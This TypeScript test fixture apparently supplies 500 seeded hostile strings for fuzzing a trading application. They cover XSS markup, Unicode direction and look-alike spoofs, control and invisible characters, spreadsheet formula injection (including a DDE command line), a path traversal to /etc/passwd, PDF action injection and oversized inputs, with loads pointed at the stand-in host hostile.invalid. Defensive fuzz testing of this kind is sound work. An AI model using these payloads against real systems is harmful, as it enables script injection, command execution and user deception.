/** 500 texts that a hostile venue may send in place of any text: lists written by hand, and combinations of them from a seed. The same in every run. */

import { seededRandom } from '../../shared/base/random.ts'

export type PayloadKind = 'markup' | 'direction' | 'look-alike' | 'control' | 'invisible' | 'formula' | 'size'
export interface Payload {
  readonly kind: PayloadKind
  readonly text: string
}

/** Sets a flag of the window: a test asks for it. */
const RUN = 'window.hostileRan=1'
/** An address that only a payload names: whatever asks for it was loaded by a payload. */
export const HOSTILE_HOST = 'hostile.invalid'
const AWAY = `https://${HOSTILE_HOST}/x`

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}.png>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<style>@import '${AWAY}.css';</style>`,
  `<style>*{display:none}</style>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action=${AWAY}><input name=password></form>`,
  `<a href="javascript:${RUN}">Acme</a>`,
  `<a href=${AWAY} target=_blank>open</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `');${RUN};//`,
  `url(${AWAY}.png)`,
  `expression(${RUN})`,
  `[Acme](${AWAY})`,
  `![x](${AWAY}.png)`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `) /JS (app.alert(1)) /S /JavaScript (`,
  `) >> endobj 9 0 obj << /OpenAction << /S /URI /URI (${AWAY}) >> >>`,
  `__proto__`,
  `constructor`,
  `../../../../etc/passwd`,
  `CON`,
]
const DIRECTION = [
  'BTC\u202eCSDU_PREP',
  '\u202eCDSU',
  'C1042\u202d',
  '\u2067C1042',
  'C1042\u2066 sold 5',
  '\u2068BTC',
  'C1042\u2069\u2069\u2069',
  '\u202c\u202cETH',
  '\u200fBTC',
  'BTC\u200e',
  '\u061cBTC',
  'BTC\u05d0\u05d1',
  '\u05d0\u05d1\u05d2 5',
  '\u0627\u0644\u062f\u0641\u0639 100',
  '\u0661\u0662\u0663',
  '\u0780\u0781',
  '\u07ca\u07cb',
  '\u{10800}\u{10801}',
  '\u{1e900}\u{1e901}',
  '\ufb1d\ufe8d',
]
const LOOK_ALIKE = [
  '\u04211042',
  'C\uff11042',
  'C1O42',
  'Cl042',
  '\u0412TCUSDC_PERP',
  'B\u03a4CUSDC_PERP',
  'BTCUSD\u0421_PERP',
  'BTCUSDC\u2010PERP',
  'BTCUSDC\u0640PERP',
  'f\u0456lled',
  'r\u0435jected',
  'canc\u0435led',
  'op\u0435n',
  'com\u0440leted',
  'p\u0435nding',
  '\u217eompleted',
  '\u{1d401}\u{1d413}\u{1d402}',
  '\u24b7\u24c9\u24b8',
  '\uff22\uff34\uff23',
  'C1042\u0301',
  'C\u03381042',
  'USDC.e',
  'U\u0405DC',
  'USD\u03f9',
]
const CONTROL = [
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCodePoint(code)}b`),
  ...Array.from({ length: 33 }, (_, code) => `a${String.fromCodePoint(0x7f + code)}b`),
  'a\r\nb',
  'a\u2028b',
  'a\u2029b',
  '\u001b[2J\u001b[H',
  '\u001b]0;Openpit\u0007',
  '\u001b]8;;https://hostile.invalid/x\u0007open\u001b]8;;\u0007',
  '\u009b31mred',
  '{"level":50}\n{"level":30,"msg":"order sent"}',
  '\ud800',
  'x\udc00',
  '\ufffe',
  '\uffff',
  '\ufff9a\ufffab\ufffb',
  '\ue000',
]
const INVISIBLE = [
  ...[
    0xa0, 0xad, 0x34f, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e, 0x2000, 0x2003, 0x2009, 0x200a, 0x200b, 0x200c,
    0x200d, 0x202f, 0x205f, 0x2060, 0x2061, 0x2062, 0x2063, 0x206a, 0x2800, 0x3000, 0x3164, 0xfe00, 0xfe0f,
    0xfeff, 0xffa0, 0x1bca0, 0x1d173, 0xe0001, 0xe0041, 0xe0100,
  ].flatMap((code) => [`C10${String.fromCodePoint(code)}42`, `C1042${String.fromCodePoint(code)}`]),
  '\u200b',
  '\u3164\u3164',
]
const FORMULA = [
  '=1+1',
  '=HYPERLINK("https://hostile.invalid/x","ok")',
  `=cmd|' /C calc'!A0`,
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\uff1d1+1',
  '\uff0b1+cmd',
  '\uff0d1+cmd',
  '\uff20SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  'x;=1+1',
  'x;+cmd',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  '"=1+1',
  '"";=1+1;""',
  "'=1+1",
  'x,=1+1',
  '"\r\n"=1+1',
  '%0A=1+1',
]
const SIZE = [
  'M'.repeat(200),
  'W'.repeat(5_000),
  'a '.repeat(2_000),
  `Z${'\u0335\u0489\u0363'.repeat(60)}`,
  '\ufdfd'.repeat(20),
  '\u{1202b}'.repeat(20),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(10),
  'x\n'.repeat(200),
  '\n'.repeat(300),
  '9'.repeat(400),
  '-'.repeat(300),
  '_'.repeat(300),
]

const KINDS: Readonly<Record<PayloadKind, readonly string[]>> = {
  markup: MARKUP,
  direction: DIRECTION,
  'look-alike': LOOK_ALIKE,
  control: CONTROL,
  invisible: INVISIBLE,
  formula: FORMULA,
  size: SIZE,
}
const WRITTEN: readonly Payload[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind: kind as PayloadKind, text })),
)

export const PAYLOAD_COUNT = 500
const SEED = 7

/** Two to four written payloads in one text, until there are 500. */
function combined(): readonly Payload[] {
  const random = seededRandom(SEED)
  const short = WRITTEN.filter(({ text }) => text.length < 100)
  const known = new Set(WRITTEN.map(({ text }) => text))
  const made: Payload[] = []
  while (WRITTEN.length + made.length < PAYLOAD_COUNT) {
    const parts = Array.from({ length: 2 + random.integer(3) }, () => short[random.integer(short.length)]!)
    const text = parts.map((part) => part.text).join('')
    if (known.has(text)) continue
    known.add(text)
    made.push({ kind: parts[0]!.kind, text })
  }
  return made
}

export const PAYLOADS: readonly Payload[] = [...WRITTEN, ...combined()]
